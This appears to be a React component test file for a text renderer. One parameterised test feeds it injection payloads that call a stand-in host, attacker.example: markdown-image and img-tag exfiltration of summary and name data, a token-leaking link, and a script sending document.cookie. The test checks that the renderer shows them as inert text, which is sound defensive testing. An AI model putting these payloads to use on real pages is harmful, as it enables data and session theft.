import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, expect, it } from 'vitest';
import { AnswerWords } from './answer-words.tsx';

afterEach(cleanup);

it('shows paragraphs and lists', () => {
  render(
    <AnswerWords text={'They ask for **two** things:\n- Wound care\n- Night shifts\n\nYou show both.'} />,
  );
  expect(screen.getAllByRole('listitem').map(({ textContent }) => textContent)).toEqual([
    'Wound care',
    'Night shifts',
  ]);
  expect(screen.getByText('They ask for two things:')).toBeTruthy();
});

it.each([
  '![logo](https://attacker.example/p.png?d=SUMMARY)',
  '<img src="https://attacker.example/x.gif?name=Ana">',
  '[Click to continue](https://attacker.example/login?token=TOKEN)',
  '<script>fetch("https://attacker.example/" + document.cookie)</script>',
  'javascript:alert(document.domain)',
  '<a href="https://attacker.example">here</a>',
  'https://attacker.example/?cv=1',
])('shows %s as the text that it is', (text) => {
  const { container } = render(<AnswerWords text={text} />);
  expect(container.textContent).toBe(text);
  expect(container.querySelectorAll('a, img, script, iframe, [src], [href]')).toHaveLength(0);
});
